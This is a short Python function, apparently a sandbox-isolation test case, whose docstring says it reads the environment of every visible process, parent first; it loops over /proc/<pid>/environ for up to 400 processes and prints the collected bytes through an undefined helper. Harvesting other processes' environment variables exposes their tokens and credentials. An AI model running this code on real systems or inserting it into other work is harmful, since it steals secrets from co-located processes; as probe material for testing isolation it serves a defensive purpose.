"""Read the environment of every process that can be seen, the parent's first.

outcome: error
without: worker
layer: memory of others, namespaces
"""


def shifted(values, note):
    pids = [str(os.getppid()), *(name for name in os.listdir("/proc") if name.isdigit())]
    seen = b""
    for pid in pids[:400]:
        if pid != str(os.getpid()):
            try:
                seen += open(f"/proc/{pid}/environ", "rb").read()
            except OSError:
                pass
    print(spoils(seen))
    return right(values)
